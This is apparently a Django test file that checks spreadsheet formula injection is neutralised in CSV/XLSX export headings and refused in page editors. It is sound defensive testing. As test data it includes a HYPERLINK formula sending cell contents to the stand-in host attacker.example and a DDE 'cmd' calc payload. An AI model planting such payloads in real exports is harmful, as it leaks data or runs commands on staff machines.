"""Spreadsheet safety reaches the column headings: on event and form pages they are
question labels that Editors write, so a label that starts like a formula is
neutralised in every CSV and XLSX download, and the page editors refuse such labels."""

import csv
import io

from django.contrib.auth.models import Group

import pytest
from openpyxl import load_workbook

from events.models import EventFormField
from home.models import FormField
from home.privacy.spreadsheet import FORMULA_PREFIXES
from tests import test_events_support as events_support
from tests.test_events_support import register
from tests.test_security_routing_settings import (
    add_question,
    edit_form,
    errors_of,
    latest,
    make_user,
    save,
)

pytestmark = pytest.mark.django_db

event = events_support.event
event_index = events_support.event_index

FORMULA_LABEL = '=HYPERLINK("http://attacker.example/?"&A2,"Open")'


def csv_headings(response):
    body = b"".join(response.streaming_content).decode()
    return next(csv.reader(io.StringIO(body)))


def xlsx_heading_cells(response):
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return list(next(workbook.active.iter_rows(min_row=1, max_row=1)))


def assert_no_formula_headings_in_csv(headings):
    assert headings, "no heading row"
    assert not [h for h in headings if h.startswith(FORMULA_PREFIXES)]


def assert_no_formula_headings_in_xlsx(cells):
    assert cells, "no heading row"
    for cell in cells:
        assert cell.data_type == "s", (cell.value, cell.data_type)
        assert not str(cell.value).startswith(FORMULA_PREFIXES)


# ---------- Registrations (events) ----------


@pytest.fixture
def event_with_formula_label(client, event):
    """A question labelled like a formula (as saved before labels were checked)."""
    register(client, event, email="amina@example.org")
    EventFormField.objects.filter(page=event, label="Constituency Labour Party").update(
        label=FORMULA_LABEL
    )
    return event


@pytest.mark.parametrize("sensitive", ["", "&sensitive=1"])
def test_registrations_csv_headings_are_neutralised(
    client, django_user_model, event_with_formula_label, sensitive
):
    client.force_login(make_user(django_user_model, "organiser", "Event organisers"))
    url = f"/admin/forms/submissions/{event_with_formula_label.pk}/?export=csv{sensitive}"
    response = client.get(url)
    assert response.status_code == 200
    headings = csv_headings(response)
    assert_no_formula_headings_in_csv(headings)
    # The label is still there, shown as typed.
    assert "'" + FORMULA_LABEL in headings


def test_registrations_xlsx_headings_are_text_not_formulas(
    client, django_user_model, event_with_formula_label
):
    client.force_login(make_user(django_user_model, "organiser", "Event organisers"))
    response = client.get(f"/admin/forms/submissions/{event_with_formula_label.pk}/?export=xlsx")
    assert response.status_code == 200
    cells = xlsx_heading_cells(response)
    assert_no_formula_headings_in_xlsx(cells)
    assert "'" + FORMULA_LABEL in [cell.value for cell in cells]


# ---------- Contact and enquiry messages (form pages) ----------


@pytest.fixture
def contact_with_formula_label(home_page):
    from home.demo.content import load_home_content
    from home.models import FormPage

    load_home_content(home_page, io.StringIO())
    contact = FormPage.objects.get(slug="contact")
    question = FormField.objects.filter(page=contact).order_by("sort_order").first()
    FormField.objects.filter(pk=question.pk).update(label="@SUM(1+1)*cmd")
    return contact


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_enquiries_download_headings_are_neutralised(
    client, django_user_model, contact_with_formula_label, export
):
    client.force_login(make_user(django_user_model, "handler", "Enquiry handlers"))
    response = client.get(
        f"/admin/forms/submissions/{contact_with_formula_label.pk}/?export={export}"
    )
    assert response.status_code == 200
    if export == "csv":
        headings = csv_headings(response)
        assert_no_formula_headings_in_csv(headings)
        assert "'@SUM(1+1)*cmd" in headings
    else:
        cells = xlsx_heading_cells(response)
        assert_no_formula_headings_in_xlsx(cells)
        assert "'@SUM(1+1)*cmd" in [cell.value for cell in cells]


def test_mailing_list_download_headings_go_through_the_same_check(client, django_user_model):
    from home.staff.mailing_list import SubscriberIndexView

    # Its headings are fixed words today; this guards against a heading that a later
    # change lets someone write.
    view = SubscriberIndexView()
    view.export_headings = {"email": "=cmd|' /C calc'!A0"}
    assert view.get_heading(None, "email") == "'=cmd|' /C calc'!A0"


# ---------- The page editors refuse formula-like labels ----------


@pytest.mark.parametrize("label", ["=1+2", "+44 number", "-dash", "@handle"])
def test_an_event_question_label_cannot_start_like_a_formula(
    client, django_user_model, event, label
):
    organiser = make_user(django_user_model, "organiser", "Event organisers")
    organiser.groups.add(Group.objects.get(name="Editors"))
    client.force_login(organiser)
    data = edit_form(client, event)
    add_question(data, label, sensitive=True)
    response = save(client, event, data)
    assert response.status_code == 200
    assert "spreadsheet programs treat a cell starting with" in errors_of(response)
    assert not latest(event).form_fields.filter(label=label).exists()


def test_a_form_page_question_label_cannot_start_like_a_formula(
    client, django_user_model, contact_with_formula_label
):
    contact = contact_with_formula_label
    handler = make_user(django_user_model, "handler", "Enquiry handlers")
    handler.groups.add(Group.objects.get(name="Editors"))
    client.force_login(handler)
    data = edit_form(client, contact)
    response = client.post(f"/admin/pages/{contact.pk}/edit/", data)
    # The label stored earlier is refused on the next save, with the reason.
    assert response.status_code == 200
    assert "spreadsheet programs treat a cell starting with" in errors_of(response)
    for key, value in data.items():
        if key.endswith("-label") and value == "@SUM(1+1)*cmd":
            data[key] = "Your name"
    response = client.post(f"/admin/pages/{contact.pk}/edit/", data)
    assert response.status_code == 302, errors_of(response)
